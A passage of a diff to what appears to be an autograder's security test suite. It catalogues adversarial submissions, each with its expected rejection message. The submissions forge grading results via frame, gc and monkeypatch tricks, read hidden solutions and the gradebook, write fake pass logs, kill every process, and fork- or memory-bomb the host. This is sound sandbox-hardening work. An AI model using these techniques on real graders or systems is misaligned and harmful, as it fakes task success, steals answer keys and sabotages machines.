@@ -52,8 +52,10 @@ def honest(source: str) -> tuple[str, str]:
 
 
 WRONG = "def flatten_view(t):\n    return torch.zeros(t.numel(), dtype=t.dtype)\n"
-COPYING = honest("def flatten_view(t):\n    if not t.is_contiguous():\n        raise RuntimeError('not contiguous')\n"
-                 "    return t.clone().view(-1)\n")  # right values, refuses like view, but a copy
+COPYING = honest(
+    "def flatten_view(t):\n    if not t.is_contiguous():\n        raise RuntimeError('not contiguous')\n"
+    "    return t.clone().view(-1)\n"
+)  # right values, refuses like view, but a copy
 FIND_KIT = '''
 import glob, os, sys
 def kit_places():
@@ -114,8 +116,15 @@ def df_to_tensor(df):
 """)  # casts bool columns in the caller's frame: modifies its input
 
 FORGERIES = [
-    Attack("forge_caller_frame_globals", "sys._getframe(1).f_globals up the stack, patching the describing code's "
-           "captured getters", ("copy", "not credited"), (COPYING, attack(ONE_REGION + '''
+    Attack(
+        "forge_caller_frame_globals",
+        "sys._getframe(1).f_globals up the stack, patching the describing code's captured getters",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack(
+                ONE_REGION
+                + """
 import sys
 _copy = flatten_view
 def flatten_view(t):
@@ -124,9 +133,20 @@ def flatten_view(t):
         _one_region_everywhere(frame.f_globals)
         frame = frame.f_back
     return _copy(t)
-''')), forges=True),
-    Attack("forge_subclasses_walk", "object.__subclasses__() to every kit class, then its methods' __globals__",
-           ("copy", "not credited"), (COPYING, attack(ONE_REGION + '''
+"""
+            ),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_subclasses_walk",
+        "object.__subclasses__() to every kit class, then its methods' __globals__",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack(
+                ONE_REGION
+                + """
 _stack, _seen = [object], set()
 while _stack:
     for _cls in type.__subclasses__(_stack.pop()):
@@ -136,16 +156,38 @@ while _stack:
         _stack.append(_cls)
         for _attr in list(vars(_cls).values()):
             _one_region(getattr(getattr(_attr, "__func__", _attr), "__globals__", None))
-''')), forges=True),
-    Attack("forge_gc_unfreeze", "gc.unfreeze() and gc.get_objects() to the module dict holding the captured getters",
-           ("copy", "not credited"), (COPYING, attack(ONE_REGION + '''
+"""
+            ),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_gc_unfreeze",
+        "gc.unfreeze() and gc.get_objects() to the module dict holding the captured getters",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack(
+                ONE_REGION
+                + """
 import gc
 gc.unfreeze()
 for _obj in gc.get_objects():
     _one_region(_obj)
-''')), forges=True),
-    Attack("forge_traceback_frames", "a traceback's frame, then f_back up to the program object and its module",
-           ("copy", "not credited"), (COPYING, attack(ONE_REGION + '''
+"""
+            ),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_traceback_frames",
+        "a traceback's frame, then f_back up to the program object and its module",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack(
+                ONE_REGION
+                + """
 _copy = flatten_view
 def flatten_view(t):
     try:
@@ -158,9 +200,20 @@ def flatten_view(t):
             _one_region_everywhere(getattr(getattr(program, method, None), "__globals__", None))
         frame = frame.f_back
     return _copy(t)
-''')), forges=True),
-    Attack("forge_program_method", "replace the program object's handle() with one that rewrites each answer",
-           ("copy", "not credited"), (COPYING, attack(RELABEL + '''
+"""
+            ),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_program_method",
+        "replace the program object's handle() with one that rewrites each answer",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack(
+                RELABEL
+                + """
 _stack, _seen = [object], set()
 while _stack:
     for _cls in type.__subclasses__(_stack.pop()):
@@ -169,9 +222,20 @@ while _stack:
             _stack.append(_cls)
             if str(getattr(_cls, "__module__", "")).startswith("autograder") and hasattr(_cls, "handle"):
                 _cls.handle = lambda self, frame, _original=_cls.handle: _relabel(_original(self, frame))
-''')), forges=True),
-    Attack("forge_socket_class", "replace socket.socket.sendall so every answer frame is rewritten as it is sent",
-           ("copy", "not credited"), (COPYING, attack(RELABEL + '''
+"""
+            ),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_socket_class",
+        "replace socket.socket.sendall so every answer frame is rewritten as it is sent",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack(
+                RELABEL
+                + """
 import socket
 _sendall = socket.socket.sendall
 def _rewriting_sendall(self, data, *rest):
@@ -184,10 +248,19 @@ def _rewriting_sendall(self, data, *rest):
         pass
     return _sendall(self, data, *rest)
 socket.socket.sendall = _rewriting_sendall
-''')), forges=True),
-    Attack("forge_channel_write", "take the call channel over with os.write: answer this call and every later one "
-           "with hand-made frames in the documented wire format, claiming shared memory",
-           ("not written by the kit", "not credited"), (COPYING, attack('''
+"""
+            ),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_channel_write",
+        "take the call channel over with os.write: answer this call and every later one "
+        "with hand-made frames in the documented wire format, claiming shared memory",
+        ("not written by the kit", "not credited"),
+        (
+            COPYING,
+            attack("""
 import os, stat, struct, msgpack
 _copy = flatten_view
 def _channel():
@@ -246,24 +319,54 @@ def flatten_view(t):
     while True:  # from now on this code answers the grader
         name, t = _request(fd)
         _answer(fd, t, _copy if name == "flatten_view" else globals()[name])
-''')), forges=True),
-    Attack("forge_main_module", "sys.modules['__main__'] to the kit package left by the bootstrap, then its modules",
-           ("copy", "not credited"), (COPYING, attack(ONE_REGION + '''
+"""),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_main_module",
+        "sys.modules['__main__'] to the kit package left by the bootstrap, then its modules",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack(
+                ONE_REGION
+                + """
 import sys
 _main = sys.modules["__main__"]
 for _name in list(vars(_main)):
     _one_region_everywhere(getattr(getattr(_main, _name), "__dict__", None))
-''')), forges=True),
-    Attack("forge_stdout_globals", "type(sys.stdout).write.__globals__: the module that captures printed text",
-           ("copy", "not credited"), (COPYING, attack(ONE_REGION + '''
+"""
+            ),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_stdout_globals",
+        "type(sys.stdout).write.__globals__: the module that captures printed text",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack(
+                ONE_REGION
+                + """
 import sys
 _copy = flatten_view
 def flatten_view(t):
     _one_region_everywhere(getattr(type(sys.stdout).write, "__globals__", None))
     return _copy(t)
-''')), forges=True),
-    Attack("forge_thread_during_description", "a thread that turns each returned copy into a view of the input while "
-           "the answer is being described", ("copy", "not credited", "thread", "not found"), (COPYING, attack('''
+"""
+            ),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_thread_during_description",
+        "a thread that turns each returned copy into a view of the input while the answer is being described",
+        ("copy", "not credited", "thread", "not found"),
+        (
+            COPYING,
+            attack("""
 import sys, threading, time
 sys.setswitchinterval(1e-6)  # switch threads as often as possible: some switch will fall while it is described
 _copy = flatten_view
@@ -285,9 +388,17 @@ def flatten_view(t):
     result = _copy(t)
     _returned.append((result, t))
     return result
-''')), forges=True),
-    Attack("forge_raw_memory", "numpy's __array_interface__ over a raw address: a tensor on the input's memory, made "
-           "without any view of it", ("not credited",), (COPYING, attack('''
+"""),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_raw_memory",
+        "numpy's __array_interface__ over a raw address: a tensor on the input's memory, made without any view of it",
+        ("not credited",),
+        (
+            COPYING,
+            attack("""
 import numpy as np
 _copy = flatten_view
 class _Memory:
@@ -298,10 +409,18 @@ def flatten_view(t):
         return _copy(t)
     raw = np.asarray(_Memory(t.data_ptr(), t.numel() * t.element_size()))
     return torch.from_numpy(raw).view(t.dtype)
-''')), forges=True),
-    Attack("forge_pandas_internals", "patch pandas' DataFrame._get_column_array (what the describing code read) so "
-           "the arguments echoed after the call look unmodified", ("modif", "not credited"),
-           (MODIFIES_INPUT, attack('''
+"""),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_pandas_internals",
+        "patch pandas' DataFrame._get_column_array (what the describing code read) so "
+        "the arguments echoed after the call look unmodified",
+        ("modif", "not credited"),
+        (
+            MODIFIES_INPUT,
+            attack("""
 import pandas as pd
 _convert = df_to_tensor
 _pristine = {}
@@ -310,9 +429,18 @@ pd.DataFrame._get_column_array = lambda self, i: _column_array(_pristine.get(id(
 def df_to_tensor(df):
     _pristine[id(df)] = df.copy()
     return _convert(df)
-''')), target="df_to_tensor", forges=True),
-    Attack("forge_builtins_sorted", "replace builtins.sorted, which the describing code used to group memory regions",
-           ("copy", "not credited"), (COPYING, attack('''
+"""),
+        ),
+        target="df_to_tensor",
+        forges=True,
+    ),
+    Attack(
+        "forge_builtins_sorted",
+        "replace builtins.sorted, which the describing code used to group memory regions",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack("""
 import builtins
 _sorted = builtins.sorted
 def _one_region_sorted(iterable, key=None, reverse=False):
@@ -321,9 +449,20 @@ def _one_region_sorted(iterable, key=None, reverse=False):
         return [(0, 1 << 62, desc) for _, _, desc in items]
     return items
 builtins.sorted = _one_region_sorted
-''')), forges=True),
-    Attack("forge_audit_hook", "an audit hook of the student's, to run inside the kit's code on its next audited "
-           "event and patch it from there", ("copy", "not credited"), (COPYING, attack(ONE_REGION + '''
+"""),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_audit_hook",
+        "an audit hook of the student's, to run inside the kit's code on its next audited "
+        "event and patch it from there",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack(
+                ONE_REGION
+                + """
 import sys
 _busy = []
 def _inside(event, args):
@@ -338,10 +477,21 @@ def _inside(event, args):
     finally:
         _busy.clear()
 sys.addaudithook(_inside)
-''')), forges=True),
-    Attack("forge_gc_callbacks_from_a_thread", "a thread that keeps the garbage collector on, so that a collection "
-           "set off by the sealed thread's allocations runs the student's gc.callbacks there, past the audit hook",
-           ("copy", "not credited"), (COPYING, attack(ONE_REGION + """
+"""
+            ),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_gc_callbacks_from_a_thread",
+        "a thread that keeps the garbage collector on, so that a collection "
+        "set off by the sealed thread's allocations runs the student's gc.callbacks there, past the audit hook",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack(
+                ONE_REGION
+                + """
 import gc, sys, threading
 _sealed = threading.main_thread().ident  # the thread that describes answers
 def _in_the_sealed_thread(phase, info):
@@ -359,9 +509,20 @@ def _keep_collecting():
         gc.enable()
         gc.set_threshold(1, 1, 1)
 threading.Thread(target=_keep_collecting, daemon=True).start()
-""")), forges=True),
-    Attack("forge_signal_handler", "a signal handler, which Python runs in the main thread (the sealed one), set "
-           "with an interval timer", ("copy", "not credited"), (COPYING, attack(ONE_REGION + """
+"""
+            ),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_signal_handler",
+        "a signal handler, which Python runs in the main thread (the sealed one), set with an interval timer",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack(
+                ONE_REGION
+                + """
 import signal, sys
 def _handler(number, frame):
     while frame is not None:
@@ -374,9 +535,20 @@ try:
     signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
 except ValueError as error:
     print("refused:", error)
-""")), forges=True),
-    Attack("forge_finalizer", "a tensor subclass whose finalizer patches whatever kit code is on the stack of the "
-           "thread that drops it last", ("copy", "not credited"), (COPYING, attack(ONE_REGION + """
+"""
+            ),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_finalizer",
+        "a tensor subclass whose finalizer patches whatever kit code is on the stack of the thread that drops it last",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack(
+                ONE_REGION
+                + """
 import sys
 _copy = flatten_view
 class _Trap(torch.Tensor):
@@ -387,10 +559,19 @@ class _Trap(torch.Tensor):
             frame = frame.f_back
 def flatten_view(t):
     return _copy(t).as_subclass(_Trap)
-""")), forges=True),
-    Attack("forge_torch_function_getters", "a tensor subclass whose __torch_function__ answers the describing "
-           "code's own C-level getters: untyped_storage() gives the input's storage for a copy",
-           ("copy", "not credited"), (COPYING, attack("""
+"""
+            ),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_torch_function_getters",
+        "a tensor subclass whose __torch_function__ answers the describing "
+        "code's own C-level getters: untyped_storage() gives the input's storage for a copy",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack("""
 _copy = flatten_view
 class _SameStorage(torch.Tensor):
     source = None
@@ -402,10 +583,20 @@ class _SameStorage(torch.Tensor):
 def flatten_view(t):
     _SameStorage.source = t
     return _copy(t).as_subclass(_SameStorage)
-""")), forges=True),
-    Attack("forge_gc_garbage", "an answer the sealed side cannot describe, then gc.DEBUG_SAVEALL: the traceback of "
-           "its failure, left in a cycle, would bring the private code's frames and globals to gc.garbage",
-           ("copy", "not credited", "cannot be graded"), (COPYING, attack(ONE_REGION + """
+"""),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_gc_garbage",
+        "an answer the sealed side cannot describe, then gc.DEBUG_SAVEALL: the traceback of "
+        "its failure, left in a cycle, would bring the private code's frames and globals to gc.garbage",
+        ("copy", "not credited", "cannot be graded"),
+        (
+            COPYING,
+            attack(
+                ONE_REGION
+                + """
 import gc
 _copy = flatten_view
 _calls = []
@@ -419,9 +610,18 @@ def flatten_view(t):
         if type(obj).__name__ == "frame":
             _one_region(obj.f_globals)
     return _copy(t)
-""")), forges=True),
-    Attack("forge_code_from_a_file", "write the forging code to a module in the scratch directory and import it: "
-           "the scan reads only the notebook", ("copy", "not credited"), (COPYING, attack('''
+"""
+            ),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_code_from_a_file",
+        "write the forging code to a module in the scratch directory and import it: the scan reads only the notebook",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack('''
 HELPER = """
 import sys
 def reach():
@@ -462,10 +662,19 @@ def flatten_view(t):
     copy = storage[t.numel():]
     copy.copy_(t.reshape(-1))
     return copy
-''')), forges=True),
-    Attack("forge_decoding_by_names_built_later", "getattr passed on and names built at run time (no construct the "
-           "scan knew) to reach the kit's decoding from the student's own thread, so that the input arrives inside a "
-           "larger storage where the function then puts its copy", ("copy", "not credited"), (COPYING, attack("""
+'''),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_decoding_by_names_built_later",
+        "getattr passed on and names built at run time (no construct the "
+        "scan knew) to reach the kit's decoding from the student's own thread, so that the input arrives inside a "
+        "larger storage where the function then puts its copy",
+        ("copy", "not credited"),
+        (
+            COPYING,
+            attack("""
 import sys
 read = getattr
 _room = {}
@@ -497,12 +706,20 @@ def flatten_view(t):
     copy = storage[t.numel():]
     copy.copy_(t.reshape(-1))  # its own elements: a copy, in the storage the input came in
     return copy
-""")), forges=True),
-    Attack("forge_ndarray_interface_lie", "an ndarray subclass whose __array_interface__ claims the input tensor's "
-           "address for a copied array", ("should be", "not credited"), (honest("""
+"""),
+        ),
+        forges=True,
+    ),
+    Attack(
+        "forge_ndarray_interface_lie",
+        "an ndarray subclass whose __array_interface__ claims the input tensor's address for a copied array",
+        ("should be", "not credited"),
+        (
+            honest("""
 def tensor_to_numpy(t):
     return t.detach().clone().numpy()
-"""), attack("""
+"""),
+            attack("""
 import numpy as np
 _convert = tensor_to_numpy
 class _Claims(np.ndarray):
@@ -515,10 +732,19 @@ class _Claims(np.ndarray):
 def tensor_to_numpy(t):
     _Claims.source = t
     return _convert(t).view(_Claims)
-""")), target="tensor_to_numpy", forges=True),
-    Attack("forge_trace_caller", "a trace function on the caller's frame that puts the returned copy in place of the "
-           "echoed argument before the answer is described", ("copy", "not credited", "not allowed"),
-           (COPYING, attack('''
+"""),
+        ),
+        target="tensor_to_numpy",
+        forges=True,
+    ),
+    Attack(
+        "forge_trace_caller",
+        "a trace function on the caller's frame that puts the returned copy in place of the "
+        "echoed argument before the answer is described",
+        ("copy", "not credited", "not allowed"),
+        (
+            COPYING,
+            attack("""
 import sys
 _copy = flatten_view
 def flatten_view(t):
@@ -532,21 +758,35 @@ def flatten_view(t):
     caller.f_trace = tracer
     sys.settrace(lambda *a: None)
     return result
-''')), forges=True),
+"""),
+        ),
+        forges=True,
+    ),
 ]
 
 ATTACKS = [
     # -- types and dunders: only plain data crosses, so a clever object never reaches a comparison
-    Attack("eq_always_true", "object whose __eq__ is always True", "should be a Tensor", (attack('''
+    Attack(
+        "eq_always_true",
+        "object whose __eq__ is always True",
+        "should be a Tensor",
+        (
+            attack("""
 class Anything:
     def __eq__(self, other): return True
     def __ne__(self, other): return False
     __hash__ = object.__hash__
 def flatten_view(t):
     return Anything()
-'''),)),
-    Attack("bool_float_spoof", "object spoofing __bool__, __float__, __int__, __len__, __array__", "should be a Tensor",
-           (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "bool_float_spoof",
+        "object spoofing __bool__, __float__, __int__, __len__, __array__",
+        "should be a Tensor",
+        (
+            attack("""
 import numpy as np
 class Chameleon:
     def __bool__(self): return True
@@ -559,9 +799,15 @@ class Chameleon:
     def __eq__(self, other): return True
 def flatten_view(t):
     return Chameleon()
-'''),)),
-    Attack("tensor_subclass_torch_function", "torch.Tensor subclass whose __torch_function__ says every comparison "
-           "holds", "wrong values", (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "tensor_subclass_torch_function",
+        "torch.Tensor subclass whose __torch_function__ says every comparison holds",
+        "wrong values",
+        (
+            attack("""
 class Liar(torch.Tensor):
     @classmethod
     def __torch_function__(cls, func, types, args=(), kwargs=None):
@@ -571,9 +817,16 @@ class Liar(torch.Tensor):
         return super().__torch_function__(func, types, args, kwargs or {})
 def flatten_view(t):
     return torch.zeros(t.numel(), dtype=t.dtype).as_subclass(Liar)
-'''),)),
-    Attack("tensor_subclass_fakes_storage", "Tensor subclass claiming the input's storage, data_ptr and strides for a "
-           "copy", "it is a copy", (COPYING, attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "tensor_subclass_fakes_storage",
+        "Tensor subclass claiming the input's storage, data_ptr and strides for a copy",
+        "it is a copy",
+        (
+            COPYING,
+            attack("""
 _copy = flatten_view
 class SharedLooking(torch.Tensor):
     source = None
@@ -584,38 +837,67 @@ class SharedLooking(torch.Tensor):
 def flatten_view(t):
     SharedLooking.source = t
     return _copy(t).as_subclass(SharedLooking)
-'''))),
-    Attack("retarget_input_to_its_copy", "return a copy and point the input at the copy's memory (set_): no "
-           "report is forged, the objects really share memory after the call", "changed the memory",
-           (COPYING, attack("""
+"""),
+        ),
+    ),
+    Attack(
+        "retarget_input_to_its_copy",
+        "return a copy and point the input at the copy's memory (set_): no "
+        "report is forged, the objects really share memory after the call",
+        "changed the memory",
+        (
+            COPYING,
+            attack("""
 _copy = flatten_view
 def flatten_view(t):
     result = _copy(t)
     t.set_(result.untyped_storage(), 0, t.shape, t.stride())
     return result
-"""))),
-    Attack("retarget_input_away_from_its_view", "return a view and point the input at a copy of itself, so that "
-           "the view no longer shares the input's memory", "changed the memory", (honest("""
+"""),
+        ),
+    ),
+    Attack(
+        "retarget_input_away_from_its_view",
+        "return a view and point the input at a copy of itself, so that the view no longer shares the input's memory",
+        "changed the memory",
+        (
+            honest("""
 def reshape_copy(t, shape):
     return t.reshape(shape)
-"""), attack("""
+"""),
+            attack("""
 _reshape = reshape_copy
 def reshape_copy(t, shape):
     result = _reshape(t, shape)
     t.set_(t.clone())
     return result
-""")), target="reshape_copy"),
-    Attack("monkeypatch_storage_pointers", "patch torch.UntypedStorage.data_ptr/nbytes and Tensor.data_ptr so every "
-           "tensor seems to share memory", "it is a copy", (COPYING, attack('''
+"""),
+        ),
+        target="reshape_copy",
+    ),
+    Attack(
+        "monkeypatch_storage_pointers",
+        "patch torch.UntypedStorage.data_ptr/nbytes and Tensor.data_ptr so every tensor seems to share memory",
+        "it is a copy",
+        (
+            COPYING,
+            attack("""
 torch.UntypedStorage.data_ptr = lambda self: 4096
 torch.UntypedStorage.nbytes = lambda self: 1 << 40
 torch.Tensor.data_ptr = lambda self: 4096
-'''))),
-    Attack("monkeypatch_numpy_bounds", "patch numpy's byte_bounds and shares_memory so a copied array seems to "
-           "share the tensor's memory", ("it is a copy", "not credited"), (honest('''
+"""),
+        ),
+    ),
+    Attack(
+        "monkeypatch_numpy_bounds",
+        "patch numpy's byte_bounds and shares_memory so a copied array seems to share the tensor's memory",
+        ("it is a copy", "not credited"),
+        (
+            honest("""
 def tensor_to_numpy(t):
     return t.detach().clone().numpy()
-'''), attack('''
+"""),
+            attack("""
 import numpy as np
 np.lib.array_utils.byte_bounds = lambda a: (0, 1 << 62)
 np.shares_memory = np.may_share_memory = lambda *a, **k: True
@@ -624,21 +906,48 @@ try:  # numpy's own types are immutable; the attempt is what counts
                                                             "strides": None, "typestr": "|u1", "version": 3})
 except TypeError:
     pass
-''')), target="tensor_to_numpy"),
-    Attack("monkeypatch_torch_comparisons", "patch torch.allclose/equal/testing.assert_close/Tensor.__eq__ to pass",
-           "wrong values", (attack('''
+"""),
+        ),
+        target="tensor_to_numpy",
+    ),
+    Attack(
+        "monkeypatch_torch_comparisons",
+        "patch torch.allclose/equal/testing.assert_close/Tensor.__eq__ to pass",
+        "wrong values",
+        (
+            attack(
+                """
 import torch.testing
 torch.allclose = torch.equal = lambda *a, **k: True
 torch.testing.assert_close = lambda *a, **k: None
 torch.Tensor.__eq__ = lambda self, other: True
-''' + WRONG),)),
-    Attack("monkeypatch_numpy_testing", "patch numpy.testing and numpy comparisons to pass", "wrong values", (attack('''
+"""
+                + WRONG
+            ),
+        ),
+    ),
+    Attack(
+        "monkeypatch_numpy_testing",
+        "patch numpy.testing and numpy comparisons to pass",
+        "wrong values",
+        (
+            attack(
+                """
 import numpy as np, numpy.testing
 np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
 np.allclose = np.array_equal = lambda *a, **k: True
-''' + WRONG),)),
-    Attack("monkeypatch_pytest", "import pytest in the notebook and disable failing (the grader's pytest is another "
-           "process)", "wrong values", (attack('''
+"""
+                + WRONG
+            ),
+        ),
+    ),
+    Attack(
+        "monkeypatch_pytest",
+        "import pytest in the notebook and disable failing (the grader's pytest is another process)",
+        "wrong values",
+        (
+            attack(
+                """
 import pytest, _pytest.outcomes
 pytest.fail = _pytest.outcomes.fail = lambda *a, **k: None
 pytest.approx = lambda expected, *a, **k: type("Equal", (), {"__eq__": lambda s, o: True})()
@@ -647,17 +956,33 @@ try:
     _pytest.python.Function.runtest = lambda self: None
 except Exception:
     pass
-''' + WRONG),)),
-    Attack("monkeypatch_builtins", "replace isinstance/type checks and AssertionError in builtins",
-           ("wrong values", "exited", "not credited"),
-           (attack('''
+"""
+                + WRONG
+            ),
+        ),
+    ),
+    Attack(
+        "monkeypatch_builtins",
+        "replace isinstance/type checks and AssertionError in builtins",
+        ("wrong values", "exited", "not credited"),
+        (
+            attack(
+                """
 import builtins
 builtins.isinstance = lambda obj, cls: True
 builtins.issubclass = lambda a, b: True
 builtins.AssertionError = type("NeverRaised", (Exception,), {})
-''' + WRONG),)),
-    Attack("monkeypatch_grader_modules", "import the kit's modules, or fake them in sys.modules, to disable checks",
-           ("wrong values", "not credited"), (attack('''
+"""
+                + WRONG
+            ),
+        ),
+    ),
+    Attack(
+        "monkeypatch_grader_modules",
+        "import the kit's modules, or fake them in sys.modules, to disable checks",
+        ("wrong values", "not credited"),
+        (
+            attack("""
 import sys, types
 for name in ("autograder", "autograder.authoring.expect", "autograder.engine.grade", "autograder.boundary.parent",
              "autograder.boundary.codec"):
@@ -676,9 +1001,15 @@ def flatten_view(t):
                 frame.f_globals[key] = lambda *a, **k: None
         frame = frame.f_back
     return torch.zeros(t.numel(), dtype=t.dtype)
-'''),)),
-    Attack("frame_inspection", "walk the caller frames and gc for an expected value to return",
-           ("wrong values", "not allowed"), (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "frame_inspection",
+        "walk the caller frames and gc for an expected value to return",
+        ("wrong values", "not allowed"),
+        (
+            attack("""
 import gc, inspect, sys
 def flatten_view(t):
     for frame in inspect.stack():
@@ -689,10 +1020,15 @@ def flatten_view(t):
         if type(obj) is torch.Tensor and obj is not t and obj.numel() == t.numel() and obj.dim() == 1:
             return obj
     return torch.zeros(t.numel(), dtype=t.dtype)
-'''),)),
-    Attack("gc_mutate_tensors", "zero every tensor gc can find, hoping an expected value is among them",
-           ("wrong values", "not allowed"),
-           (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "gc_mutate_tensors",
+        "zero every tensor gc can find, hoping an expected value is among them",
+        ("wrong values", "not allowed"),
+        (
+            attack("""
 import gc
 def flatten_view(t):
     for obj in gc.get_objects():
@@ -702,9 +1038,17 @@ def flatten_view(t):
             except Exception:
                 pass
     return torch.zeros(t.numel(), dtype=t.dtype)
-'''),)),
-    Attack("read_hidden_files", "read the graders, the solutions and the gradebook from disk", "wrong values",
-           (attack(FIND_KIT + '''
+"""),
+        ),
+    ),
+    Attack(
+        "read_hidden_files",
+        "read the graders, the solutions and the gradebook from disk",
+        "wrong values",
+        (
+            attack(
+                FIND_KIT
+                + """
 LEAKED = []
 for place in kit_places():
     for pattern in ("autograder/graders/*.py", "source/*/*.ipynb", "solutions/*/*.ipynb", "gradebook.db",
@@ -715,9 +1059,19 @@ for place in kit_places():
             except OSError:
                 pass
 print("LEAKED", [p for p, _ in LEAKED])
-''' + WRONG),)),
-    Attack("write_fake_results", "write results.json, a gradebook, feedback and a 'passed' log outside its scratch",
-           "wrong values", (attack(FIND_KIT + '''
+"""
+                + WRONG
+            ),
+        ),
+    ),
+    Attack(
+        "write_fake_results",
+        "write results.json, a gradebook, feedback and a 'passed' log outside its scratch",
+        "wrong values",
+        (
+            attack(
+                FIND_KIT
+                + """
 import json
 fake = json.dumps({"score": 100, "tests": [{"name": "flatten_view", "score": 7, "max_score": 7}]})
 for place in kit_places() + ["/autograder/results", "/grade/results"]:
@@ -739,25 +1093,62 @@ for place in kit_places():  # and append to every grader, notebook and database 
                 pass
 print("==== 40 passed in 0.01s ====")
 print(fake)
-''' + WRONG),)),
-    Attack("sys_exit", "sys.exit(0) inside the function", "SystemExit", (attack('''
+"""
+                + WRONG
+            ),
+        ),
+    ),
+    Attack(
+        "sys_exit",
+        "sys.exit(0) inside the function",
+        "SystemExit",
+        (
+            attack("""
 import sys
 def flatten_view(t):
     sys.exit(0)
-'''),)),
-    Attack("os_exit", "os._exit(0) inside the function", "exited", (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "os_exit",
+        "os._exit(0) inside the function",
+        "exited",
+        (
+            attack("""
 import os
 def flatten_view(t):
     os._exit(0)
-'''),)),
-    Attack("atexit_exit", "atexit hook that exits 0, with a wrong answer", "wrong values", (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "atexit_exit",
+        "atexit hook that exits 0, with a wrong answer",
+        "wrong values",
+        (
+            attack(
+                """
 import atexit, os
 atexit.register(os._exit, 0)
-''' + WRONG),)),
-    Attack("exit_while_loading", "os._exit(0) in a top-level cell: nothing of the notebook can be graded", "exited",
-           (attack("import os\nos._exit(0)\n"),), target=None),
-    Attack("kill_the_grader", "SIGKILL the parent, the process group, every process, and every python it can see",
-           "wrong values", (attack('''
+"""
+                + WRONG
+            ),
+        ),
+    ),
+    Attack(
+        "exit_while_loading",
+        "os._exit(0) in a top-level cell: nothing of the notebook can be graded",
+        "exited",
+        (attack("import os\nos._exit(0)\n"),),
+        target=None,
+    ),
+    Attack(
+        "kill_the_grader",
+        "SIGKILL the parent, the process group, every process, and every python it can see",
+        "wrong values",
+        (
+            attack("""
 import os, signal
 def flatten_view(t):
     for pid in (os.getppid(), 0, -1, 1):
@@ -772,10 +1163,15 @@ def flatten_view(t):
             except OSError:
                 pass
     return torch.zeros(t.numel(), dtype=t.dtype)
-'''),)),
-    Attack("signal_tricks", "ignore SIGALRM/SIGTERM/SIGXCPU/SIGINT, cancel alarms, then never return",
-           ("Timed out", "signal only works"),
-           (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "signal_tricks",
+        "ignore SIGALRM/SIGTERM/SIGXCPU/SIGINT, cancel alarms, then never return",
+        ("Timed out", "signal only works"),
+        (
+            attack("""
 import signal
 def flatten_view(t):
     for name in ("SIGALRM", "SIGTERM", "SIGXCPU", "SIGINT", "SIGHUP", "SIGUSR1"):
@@ -783,9 +1179,16 @@ def flatten_view(t):
     signal.alarm(0)
     while True:
         pass
-'''),)),
-    Attack("thread_acts_later", "a thread started while loading that later zeroes results and exits the process",
-           ("wrong values", "exited", "thread", "not found"), (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "thread_acts_later",
+        "a thread started while loading that later zeroes results and exits the process",
+        ("wrong values", "exited", "thread", "not found"),
+        (
+            attack(
+                """
 import gc, os, threading, time
 def _saboteur():
     time.sleep(0.2)
@@ -799,8 +1202,17 @@ def _saboteur():
         time.sleep(0.01)
     os._exit(0)
 threading.Thread(target=_saboteur, daemon=True).start()
-''' + WRONG),)),
-    Attack("fork_bomb", "fork until the machine gives up", "Timed out", (attack('''
+"""
+                + WRONG
+            ),
+        ),
+    ),
+    Attack(
+        "fork_bomb",
+        "fork until the machine gives up",
+        "Timed out",
+        (
+            attack("""
 import os
 def flatten_view(t):
     while True:
@@ -808,24 +1220,47 @@ def flatten_view(t):
             os.fork()
         except OSError:
             pass
-'''),)),
-    Attack("memory_bomb", "allocate and touch memory without end",
-           ("out of memory", "Timed out"),  # a loaded machine may reach the call's deadline before the cap
-           (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "memory_bomb",
+        "allocate and touch memory without end",
+        ("out of memory", "Timed out"),  # a loaded machine may reach the call's deadline before the cap
+        (
+            attack("""
 def flatten_view(t):
     hoard = []
     while True:
         hoard.append(torch.ones(64 << 20, dtype=torch.uint8))
-'''),)),
-    Attack("infinite_loop", "never return", "Timed out", (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "infinite_loop",
+        "never return",
+        "Timed out",
+        (
+            attack("""
